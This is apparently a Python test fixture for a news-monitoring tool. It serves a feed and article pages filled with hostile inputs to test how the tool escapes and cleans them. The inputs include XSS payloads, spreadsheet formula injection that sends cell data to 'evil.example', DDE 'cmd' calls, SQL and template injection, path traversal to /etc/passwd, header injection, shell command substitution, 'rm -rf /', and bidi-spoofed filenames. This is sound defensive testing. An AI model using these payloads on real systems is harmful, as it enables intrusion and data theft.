"""Strangers' words that mean harm: a feed and pages that say them everywhere, and a project that has read them."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html import escape
from pathlib import Path
from typing import Any

from flows import stages
from flows.feed_list import ListedFeed, write_feed_list
from flows.project import Project
from flows.run import Run, running
from tests.flows.collecting import project_of
from tests.flows.desk import open_desk, open_mailbox
from tests.flows.small_web import Web, response, small_web

NOW = datetime(2026, 3, 5, 12, tzinfo=UTC)
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\x08"
TURNED = "\u202egnp.exe\u2066\u200b\ufeff"
NASTY = [
    "<script>alert('run')</script> at the harbour",
    '"><img src=x onerror=alert(1)> & <svg/onload=alert(2)>',
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0 opens the day",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 behind a tab",
    "＝1+1 in full width",
    f"Colours {ESCAPES} of the terminal",
    f"Report {TURNED} turned round",
    "[click](javascript:alert(1)) ![pixel](http://evil.example/p.png)",
    "# Heading\n\n- list\n\n| a | b |\n|---|---|\n\n```sh\nrm -rf /\n```\n---",
    "'; drop table facts.articles; --",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} %s %(x)s {0.__class__} <%= 7 %>",
    "../../../../etc/passwd\x00.html",
    "first line\nINFO dateline: all is well\r\nsecond line\u2028third\u2029fourth\x85fifth",
    "\ud83d\ude00 \U0001f600 a\u0300\u0301\u0302\u0303 ﷽ " + "Z\u0334" * 30,
    "]]> <!-- --> <?php ?> &lt;b&gt; &amp;amp; &#x3c;",
    "[bold red]markup[/bold red] [link=http://evil.example]x[/link]",
    "x" * 3_000,
    "last \ufffe\uffff \ufdd0 of the plane, \u061c\u180e hidden",
    "word " * 200_000,
]
UNSAFE = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff\u2028\u2029\u061c\ufffe\uffff]"
)
LINKS = [
    "/{n}?a=%3Cscript%3E&b='\"><i>",
    "/{n}/../../etc/passwd",
    "/{n}#javascript:alert(1)",
    "/{n}/%0d%0aX: y",
    "/{n}/`id`|$(id)",
]
ADDRESS = "http://nasty.example"
PROSE = "The harbour board of Port Amber met on Tuesday and put off its vote. “We need more time,” said Ada Quill. "


def illegal_in_xml(text: str) -> str:
    """With references for what XML forbids: some parsers resolve them."""
    text = text.encode("utf-16", "surrogatepass").decode("utf-16")
    return re.sub("[\x00-\x1f\x7f-\x9f]", lambda found: f"&#{ord(found.group())};", escape(text))


def feed() -> bytes:
    items = "".join(
        f"<item><title>{illegal_in_xml(text)}</title><author>{illegal_in_xml(text)}</author>"
        f"<link>{escape(ADDRESS + LINKS[number % len(LINKS)].format(n=number))}</link>"
        f"<guid isPermaLink='false'>{illegal_in_xml(text)}</guid><category>{illegal_in_xml(text)}</category>"
        f"<description>{illegal_in_xml(escape(text))}</description>"
        "<pubDate>Thu, 05 Mar 2026 10:00:00 GMT</pubDate></item>"
        for number, text in enumerate(NASTY)
    )
    title = illegal_in_xml(NASTY[8])
    return f'<rss version="2.0"><channel><title>{title}</title>{items}</channel></rss>'.encode("utf-8", "replace")


def page(text: str) -> bytes:
    """An article in which every place says `text`, or all but the body a very long one."""
    shown = escape(text.encode("utf-16", "surrogatepass").decode("utf-16"))
    told = json.dumps({"@type": "NewsArticle", "headline": text, "author": {"name": text}}).replace("<", "\\u003c")
    body = "".join(f"<p>{PROSE * 4} {shown[:10_000]}</p>" for _ in range(5))
    return (
        f"<html><head><title>{shown}</title><meta name='author' content='{shown}'><link rel=canonical href='file:///x'>"
        f"<script type='application/ld+json'>{told}</script></head><body><article><h1>{shown}</h1>"
        f"{body}</article></body>"
    ).encode("utf-8", "replace")


def answer(web: Web) -> None:
    """Let the web say all of it."""
    for number, text in enumerate(NASTY):
        body = response(body=page(text), headers=("Content-Type: text/html; charset=utf-8",))
        for link in LINKS:
            web.answers(link.format(n=number).partition("#")[0], body)
    web.answers("/feed", response(body=feed(), headers=("Content-Type: application/rss+xml",)))
    web.answers("/rude", b"HTTP/1.1 503 \x9b31mBusy \xe2\x80\xaeysuB\r\nContent-Length: 0\r\n\r\n")
    web.answers("/away", response("302 Found", headers=("Location: javascript:\x9b31malert(1)//\xe2\x80\xae",)))


class _Everything(dict):  # type: ignore[type-arg]
    """Answers any path of a number with that number's page: addresses are normalised on their way."""

    def get(self, path: str, default: object = None) -> object:
        found = re.match(r"/(\d+)\b", path)
        return self.setdefault(path, dict.get(self, f"/{found[1]}/`id`|$(id)", default) if found else default)


@dataclass
class Nasty:
    """The project after one run, and the alerts that it sent: as JSON to a hook, and as mails."""

    project: Project
    messages: list[dict[str, Any]]
    mails: list[bytes]


def nasty_project(folder: Path) -> Nasty:
    """A project after one run over a feed that means harm, its own feeds, outlets and watchlists included."""
    with small_web() as web, open_desk() as desk, open_mailbox() as mailbox:
        made = project_of(folder, workers=1, alerts_per_hour=1000)
        write_feed_list(made.feeds_file, list(_feeds()))
        (folder / "dateline.toml").write_text('contact = "tests@dateline.example"\n')
        made.watchlists_file.write_text("".join(_watchlists()), encoding="utf-8")
        made.targets_file.write_text(
            f'hook = "json://127.0.0.1:{desk.port}"\n'
            f'mail = "mailto://127.0.0.1:{mailbox.port}?from=a@example.org&to=b@example.org&mode=insecure"\n'
        )
        _run(made, web, NOW - timedelta(days=8), stages.read_news)  # nothing: today is more than usual
        answer(web)
        web.respond = _Everything(web.respond)
        _run(made, web, NOW, stages.whole_run)
        return Nasty(made, desk.messages, mailbox.mails)


def _run(project: Project, web: Web, now: datetime, work: Callable[[Run], object]) -> None:
    run = Run(project, now=lambda: now, connect_to={"nasty.example": web.address})
    with running(run, "run"):
        work(run)


def _feeds() -> Iterator[ListedFeed]:
    paths = {"/feed": 8, "/rude": 0, "/away": 12, "/lost": 9, "/also-lost": 15, "/more-lost": 2}
    for path, title in paths.items():
        yield ListedFeed(
            f"{ADDRESS}{path}", NASTY[title], "nasty.example", folder=NASTY[14], attributes=(("note", NASTY[3]),)
        )


def _watchlists() -> Iterator[str]:
    """A watchlist for some of the texts that can name one: the first alerts of stories, the others of bursts."""
    names = [text for text in NASTY if text.isprintable() and len(text) < 100][::3]
    for number, name in enumerate(names):
        yield (
            f"[[watchlist]]\nname = {json.dumps(name, ensure_ascii=False)}\nrule = 'harbour'\n"
            f"alert = '{'burst' if number else 'each'}'\ntargets = ['hook', 'mail']\n"
        )
